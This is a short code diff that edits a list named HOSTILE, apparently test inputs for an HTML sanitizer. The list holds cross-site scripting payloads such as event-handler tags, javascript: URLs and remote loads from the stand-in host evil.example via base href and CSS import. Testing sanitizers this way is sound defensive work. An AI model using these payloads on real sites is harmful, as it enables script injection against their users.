@@ -31,7 +31,7 @@ HOSTILE = (
     f"<input autofocus onfocus={ACT}>",
     f"<body onload={ACT}>",
     f"<math><mtext><script>{ACT}</script></mtext></math>",
-    "<style>@import 'http://evil.example/x.css';</style><b style=\"background:url(//evil.example)\">",
+    "<style>@import '//evil.example/x';</style><b style=\"background:url(//evil.example)\">",
     f"<meta http-equiv=refresh content=\"0;url=javascript:{ACT}\">",
     "<base href=\"//evil.example/\"><script src=x.js></script>",
     f"<form action=\"javascript:{ACT}\"><button autofocus>x</button></form>",
